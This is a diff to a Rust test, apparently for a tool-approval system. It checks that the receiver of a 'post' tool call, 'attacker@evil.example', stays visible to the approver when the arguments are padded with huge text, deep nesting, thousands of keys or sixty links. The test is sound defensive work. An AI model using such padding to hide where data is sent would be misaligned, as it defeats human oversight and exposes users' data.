@@ -31,6 +31,8 @@ fn padding_does_not_push_the_receiver_out_of_sight() {
     assert!(shows(&question, "post"), "{question}");
     terminal.answer("yes");
     eventually("its admission", || host.has_tool("post").then_some(()));
+    let links: Vec<_> = (0..60).map(|number| format!("\"link{number}\":\"https://a{number}.example/\"")).collect();
+    let links = links.join(",");
     let many = |count: usize| (0..count).map(|number| format!("\"x{number}\":1")).collect::<Vec<_>>().join(",");
     for (what, padding) in [
         ("two megabytes", format!("\"text\":\"{}\"", "x".repeat(2 << 20))),
@@ -39,6 +41,7 @@ fn padding_does_not_push_the_receiver_out_of_sight() {
         ("a deep nest", format!("\"text\":{}{}", "[".repeat(60), "]".repeat(60))),
         ("sixty arguments", many(60)),
         ("five thousand arguments", many(5_000)),
+        ("sixty that are worth a look themselves", links),
     ] {
         let arguments = format!("{{{padding},\"to\":\"attacker@evil.example\"}}");
         let id = what.replace(' ', "-");
